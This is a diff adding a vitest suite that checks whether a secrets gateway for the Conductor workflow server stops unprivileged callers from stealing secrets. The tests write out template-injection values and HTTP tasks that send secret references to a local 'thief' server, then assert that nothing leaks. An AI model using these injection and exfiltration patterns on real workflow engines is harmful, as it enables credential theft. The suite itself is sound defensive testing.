@@ -1,0 +1,314 @@
+// Attacks of a caller who can start and change workflow executions directly at the Conductor server, and who may use no secret.
+import { setTimeout as sleep } from 'node:timers/promises';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { holds } from '../../scripts/conductor-data.ts';
+import { until } from '../support/gateway-process.ts';
+import { type TargetServer, targetServer } from '../support/target-server.ts';
+import { type Poller, poller } from './poller.ts';
+import type { Setup, TestSecret } from './setup.ts';
+import { call, started } from './states.ts';
+import { leaksOf } from './where-found.ts';
+
+// biome-ignore lint/suspicious/noExplicitAny: responses of the Conductor server are untyped JSON
+type Any = any;
+
+export function describeAttacks(setupOf: () => Setup): void {
+  describe('a caller who may use no secret', () => {
+    const WANTED = '${workflow.secrets.wanted}';
+    let setup: Setup;
+    /** The secret that the registered definitions use. */
+    let used: TestSecret;
+    /** The secret that the attacker wants. The registered definitions do not use this secret. */
+    let wanted: TestSecret;
+    let thief: TargetServer;
+    let polls: Poller;
+    let taskType: string;
+    /** The status of each attacked workflow and of its tasks. */
+    const outcomes: string[] = [];
+    beforeAll(async () => {
+      setup = setupOf();
+      [used, wanted, thief] = await Promise.all([setup.secret('used'), setup.secret('wanted'), targetServer()]);
+      taskType = setup.named('attacked_task');
+      await setup.engine.send('POST', '/metadata/taskdefs', [
+        { name: taskType, ownerEmail: 'tests@gateway.example', retryCount: 0 },
+        {
+          ...{ name: setup.named('templated'), ownerEmail: 'tests@gateway.example', retryCount: 0 },
+          inputTemplate: { who: '${workflow.input.who}', auth: '${workflow.secrets.used}' },
+        },
+      ]);
+      const echo = (task: Any) => ({ outputData: { echo: task.inputData, reference: WANTED } });
+      polls = poller(setup.polling, { [taskType]: echo, [setup.named('templated')]: echo });
+    });
+    afterAll(async () => {
+      console.log(`Attacked workflows:\n${outcomes.map((line) => `  ${line}\n`).join('')}`);
+      await polls?.stop();
+      await thief?.close();
+    });
+
+    async function run(name: string, tasks: unknown[], input: object = {}, more: object = {}): Promise<string> {
+      await setup.register({ name: setup.named(name), tasks, ...more });
+      return started(setup, name, input);
+    }
+
+    /**
+     * INVARIANT: no attack brings the wanted secret to any receiver or place, and no attack brings any secret to the attacker's server.
+     */
+    async function expectNothingStolen(workflowId: string): Promise<void> {
+      const execution = await setup.engine.get(`/workflow/${workflowId}`);
+      const tasks = execution.tasks.map(({ referenceTaskName, status, reasonForIncompletion }: Any) =>
+        [referenceTaskName, status, reasonForIncompletion?.slice(0, 120)].filter(Boolean).join(' '),
+      );
+      outcomes.push(`${execution.workflowName} ${execution.status}: ${tasks.join(', ')}`);
+      expect(await leaksOf(setup, [execution], [used, wanted])).toEqual([]);
+      const text = JSON.stringify([setup.target.asked, polls.received.map(({ inputData }) => inputData)]);
+      expect(holds(text, wanted.random)).toBe(false);
+      expect(holds(JSON.stringify(thief.asked), used.random)).toBe(false);
+      expect(holds(JSON.stringify(thief.asked), wanted.random)).toBe(false);
+    }
+
+    test.each([
+      WANTED,
+      `$${WANTED}`,
+      `$$${WANTED}`,
+      ' ${workflow.secrets.wanted}',
+      '${ workflow.secrets.wanted }',
+      '${workflow.secrets[wanted]}',
+    ])('gets no secret with the workflow input %s', async (who) => {
+      const inline = {
+        ...{ name: 'script', taskReferenceName: 'script', type: 'INLINE' },
+        inputParameters: {
+          a: '${workflow.input.who}',
+          b: '${workflow.secrets.used}',
+          evaluatorType: 'graaljs',
+          expression: '$.a',
+        },
+      };
+      const polled = {
+        ...{ name: taskType, taskReferenceName: 'polled', type: 'SIMPLE' },
+        inputParameters: { who: '${workflow.input.who}', auth: '${workflow.secrets.used}' },
+      };
+      const post = call(setup, 'call', 'attack/echo', 'used');
+      post.inputParameters.http_request = {
+        ...post.inputParameters.http_request,
+        method: 'POST',
+        body: { who: '${workflow.input.who}' },
+      };
+      for (const [i, task] of [post, inline, polled].entries()) {
+        const id = await run(`input_${i}`, [task], { who });
+        await setup.engine.ended(id);
+        await expectNothingStolen(id);
+      }
+    });
+
+    test('gets no secret with input for an input template', async () => {
+      const task = { name: setup.named('templated'), taskReferenceName: 'polled', type: 'SIMPLE', inputParameters: {} };
+      const id = await run('template', [task], { who: WANTED });
+      await setup.engine.ended(id);
+      await expectNothingStolen(id);
+    });
+
+    test('gets no secret with the output of a task', async () => {
+      const first = { name: taskType, taskReferenceName: 'first', type: 'SIMPLE', inputParameters: {} };
+      const post = call(setup, 'call', 'output/echo', 'used');
+      post.inputParameters.http_request.headers.y = '${first.output.reference}';
+      const id = await run('output', [first, post]);
+      await setup.engine.ended(id);
+      await expectNothingStolen(id);
+    });
+
+    test.each(['HTTP', 'INLINE', 'SIMPLE'])(
+      'gets no secret with a task of the type %s in a dynamic fork',
+      async (type) => {
+        const fork = [
+          {
+            ...{ name: 'fork', taskReferenceName: 'fork', type: 'FORK_JOIN_DYNAMIC' },
+            inputParameters: { tasks: '${workflow.input.tasks}', inputs: '${workflow.input.inputs}' },
+            ...{ dynamicForkTasksParam: 'tasks', dynamicForkTasksInputParamName: 'inputs' },
+          },
+          { name: 'join', taskReferenceName: 'join', type: 'JOIN', inputParameters: {} },
+        ];
+        const inputParameters = {
+          http_request: { method: 'GET', uri: `${thief.url}/fork`, headers: { x: WANTED } },
+          ...{ evaluatorType: 'graaljs', expression: '$.a', a: WANTED },
+        };
+        const forked = { name: type === 'SIMPLE' ? taskType : 'forked', taskReferenceName: 'forked', type };
+        for (const tasks of [[forked], [{ ...forked, inputParameters }]]) {
+          const id = await run(`dynamic_fork_${type}`, fork, { tasks, inputs: { forked: inputParameters } });
+          const execution = await setup.engine.ended(id);
+          expect(execution.tasks.map((task: Any) => task.referenceTaskName)).toContain('forked');
+          await expectNothingStolen(id);
+        }
+      },
+    );
+
+    test.each(['HTTP', 'INLINE', 'JSON_JQ_TRANSFORM'])(
+      'gets no secret by choosing that a dynamic task is an %s task',
+      async (chosen) => {
+        const task = {
+          ...{ name: 'chosen', taskReferenceName: 'chosen', type: 'DYNAMIC', dynamicTaskNameParam: 'chosen' },
+          inputParameters: {
+            ...{
+              chosen: '${workflow.input.chosen}',
+              a: '${workflow.secrets.used}',
+              http_request: '${workflow.input.request}',
+            },
+            ...{ expression: '$.a', evaluatorType: 'graaljs', queryExpression: '.a' },
+          },
+        };
+        const request = { method: 'POST', uri: `${thief.url}/dynamic`, body: WANTED };
+        const id = await run(`dynamic_${chosen}`, [task], { chosen, request });
+        await setup.engine.ended(id);
+        await expectNothingStolen(id);
+      },
+    );
+
+    test('gets no secret by choosing the server that a task calls', async () => {
+      const task = call(setup, 'call', 'unused', 'used');
+      for (const uri of [
+        '${workflow.input.server}/take',
+        '${workflow.input.server}',
+        'http://${workflow.input.host}/take',
+      ]) {
+        task.inputParameters.http_request.uri = uri;
+        const id = await run('server', [task], { server: thief.url, host: thief.url.slice('http://'.length) });
+        expect((await setup.engine.ended(id)).status).toBe('FAILED');
+        await expectNothingStolen(id);
+      }
+    });
+
+    test('gets no secret by rerunning a task with another input', async () => {
+      const id = await run('rerun_input', [call(setup, 'call', 'rerun_input/ok', 'used')]);
+      const { tasks } = await setup.engine.ended(id);
+      const stealing = [
+        { http_request: { method: 'GET', uri: `${thief.url}/rerun`, headers: { x: '${workflow.secrets.used}' } } },
+        { http_request: { method: 'GET', uri: `${thief.url}/rerun`, headers: { x: WANTED } } },
+        {
+          http_request: {
+            method: 'GET',
+            uri: `${setup.target.url}/rerun_input/echo`,
+            headers: { x: '${workflow.secrets.used}', y: WANTED },
+          },
+        },
+      ];
+      for (const taskInput of stealing) {
+        await setup.engine.send('POST', `/workflow/${id}/rerun`, {
+          ...{ reRunFromWorkflowId: id, reRunFromTaskId: tasks[0].taskId, taskInput },
+        });
+        await sleep(1_500);
+        await setup.engine.ended(id);
+        await expectNothingStolen(id);
+      }
+    });
+
+    test('gets no secret by skipping a task with an input', async () => {
+      const pause = { name: 'pause', taskReferenceName: 'pause', type: 'HUMAN', inputParameters: {} };
+      const after = call(setup, 'after', 'skip/echo', 'used');
+      after.inputParameters.http_request.headers.y = '${call.input.x}${call.output.x}';
+      const id = await run('skip_input', [pause, call(setup, 'call', 'skip/never', 'used'), after]);
+      await setup.engine.send('PUT', `/workflow/${id}/skiptask/call`, {
+        taskInput: { x: WANTED },
+        taskOutput: { x: WANTED },
+      });
+      await setup.engine.send('POST', `/tasks/${id}/pause/COMPLETED`, {});
+      await setup.engine.ended(id);
+      await expectNothingStolen(id);
+    });
+
+    test('gets no secret with the input of a schedule', async () => {
+      const name = setup.named('scheduled');
+      const post = call(setup, 'call', 'schedule/echo', 'used');
+      post.inputParameters.http_request.headers.y = '${workflow.input.who}';
+      await setup.register({ name, tasks: [post] });
+      await setup.engine.send('POST', '/scheduler/schedules', {
+        ...{ name, cronExpression: '*/2 * * * * *', zoneId: 'UTC' },
+        startWorkflowRequest: { name, version: 1, correlationId: name, input: { who: WANTED } },
+      });
+      try {
+        const arrived = () => setup.target.asked.some(({ path }) => path.startsWith('/schedule/'));
+        await until(async () => arrived() || (await executions()).some(({ status }) => status !== 'RUNNING'), 60_000);
+      } finally {
+        await setup.engine.send('DELETE', `/scheduler/schedules/${name}`);
+      }
+      async function executions(): Promise<Any[]> {
+        return setup.engine.get(`/workflow/${name}/correlated/${name}?includeClosed=true&includeTasks=true`);
+      }
+      const [first] = await executions();
+      await setup.engine.ended(first.workflowId);
+      await expectNothingStolen(first.workflowId);
+    });
+
+    test('gets no secret with a workflow definition at the start', async () => {
+      const name = setup.named('own_definition');
+      const steal = {
+        ...{ name: 'call', taskReferenceName: 'call', type: 'HTTP' },
+        inputParameters: { http_request: { method: 'GET', uri: `${thief.url}/own`, headers: { x: WANTED } } },
+      };
+      await setup.register({ name, tasks: [call(setup, 'call', 'own/ok', 'used')] });
+      for (const of of [name, setup.named('never_registered')]) {
+        const workflowDef = {
+          ...{ name: of, version: 1, schemaVersion: 2, timeoutSeconds: 0 },
+          ownerEmail: 'a@b.example',
+          tasks: [steal],
+        };
+        const id = await setup.engine.start({ name: of, version: 1, input: {}, workflowDef, correlationId: of });
+        expect((await setup.engine.ended(id)).status).toBe('FAILED');
+        await expectNothingStolen(id);
+      }
+    });
+
+    test('cannot register a workflow definition that uses a secret, and cannot start a workflow with such a definition', async () => {
+      const name = setup.named('not_registered');
+      const definition = {
+        ...{ name, version: 1, schemaVersion: 2, timeoutSeconds: 0, ownerEmail: 'tests@gateway.example' },
+        tasks: [call(setup, 'call', 'not_registered/ok', 'wanted')],
+      };
+      const { stranger } = setup.readers;
+      for (const [method, path, body] of [
+        ['POST', '/metadata/workflow', definition],
+        ['PUT', '/metadata/workflow', [definition]],
+        ['POST', '/workflow', { name, version: 1, input: {}, workflowDef: definition }],
+      ] as const) {
+        expect({ path, status: (await stranger.ask(method, path, body)).status }).toEqual({ path, status: 400 });
+      }
+      await expect(setup.engine.get(`/metadata/workflow/${name}?version=1`)).rejects.toThrow('404');
+    });
+
+    test('overwrites no secret by choosing the name for UPDATE_SECRET', async () => {
+      const update = {
+        ...{ name: 'store', taskReferenceName: 'store', type: 'UPDATE_SECRET' },
+        inputParameters: { _secrets: { secretKey: '${workflow.input.name}', secretValue: '${workflow.input.value}' } },
+      };
+      const id = await run('update', [update], { name: 'wanted', value: 'mine' });
+      expect((await setup.engine.ended(id)).status).toBe('FAILED');
+      expect(await setup.w.reveal(setup.w.admin, 'wanted')).toBe(wanted.value);
+    });
+
+    test('gets no value by polling tasks, and the refused task names the secret', async () => {
+      const type = setup.named('stolen_task');
+      await setup.engine.send('POST', '/metadata/taskdefs', [
+        { name: type, ownerEmail: 'tests@gateway.example', retryCount: 0 },
+      ]);
+      const inputParameters = { auth: '${workflow.secrets.used}' };
+      const { stranger } = setup.readers;
+      for (const path of [`/tasks/poll/${type}`, `/tasks/poll/batch/${type}?count=5&timeout=500`]) {
+        const id = await run('stolen', [{ name: type, taskReferenceName: 'polled', type: 'SIMPLE', inputParameters }]);
+        await setup.engine.when(id, ({ tasks }) => tasks[0]?.status === 'SCHEDULED');
+        const { text } = await stranger.ask('GET', path);
+        expect([holds(text, used.random), text.includes(type)]).toEqual([false, false]);
+        const { tasks } = await setup.engine.ended(id);
+        expect(tasks[0].status).toBe('FAILED_WITH_TERMINAL_ERROR');
+        expect(tasks[0].reasonForIncompletion).toContain('used');
+        await expectNothingStolen(id);
+      }
+    });
+
+    test('finds no value with a search for the value', async () => {
+      for (const { random } of [used, wanted]) {
+        for (const path of ['/workflow/search', '/tasks/search']) {
+          const { json } = await setup.readers.stranger.ask('GET', `${path}?freeText=${random}&start=0&size=10`);
+          expect(json.totalHits).toBe(0);
+        }
+      }
+    });
+  });
+}
